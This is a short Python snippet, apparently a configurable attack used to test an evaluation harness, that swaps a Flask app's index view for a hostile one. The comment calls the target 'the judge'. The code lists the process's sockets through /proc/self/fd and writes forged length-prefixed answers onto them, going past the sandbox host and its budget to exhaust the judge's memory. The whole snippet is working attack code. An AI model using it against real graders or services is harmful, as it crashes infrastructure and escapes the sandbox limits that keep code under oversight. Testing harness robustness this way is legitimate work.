# Costing the judge memory with one answer: the page at / is ATTACK["size"] bytes. With "forge", the
# view also writes straight onto the sandbox's socket (past the host and its budget) an answer whose
# header announces that size, then streams it. With "dense", the forged answer is just under the
# wire's budget and made of as many JSON objects as fit ({} {} {} ...). Size 0: the honest page.
import struct as _struct


def _sockets():
    """Descriptors of this process's sockets (the sandbox's line to the judge among them)."""
    found = []
    for fd in _os.listdir("/proc/self/fd"):
        try:
            if _os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                found.append(int(fd))
        except OSError:
            pass
    return found


def _forge(size, dense):
    if dense:
        body = b'{"ok": [' + b",".join([b"{}"] * ((size - 20) // 3)) + b"]}"
        chunks = [_struct.pack("!I", len(body)) + body]
    else:
        block = b"[" + b"0," * (1 << 19)
        chunks = [_struct.pack("!I", size)] + [block] * (size // len(block) + 1)
    for fd in _sockets():
        try:
            for chunk in chunks:
                _os.write(fd, chunk)
        except OSError:
            pass


def _huge_index():
    size = ATTACK["size"]
    if size and ATTACK.get("forge"):
        _forge(size, ATTACK.get("dense"))
    return "Hello, Flask!" + "x" * max(0, size - 13)


app.view_functions["index"] = _huge_index
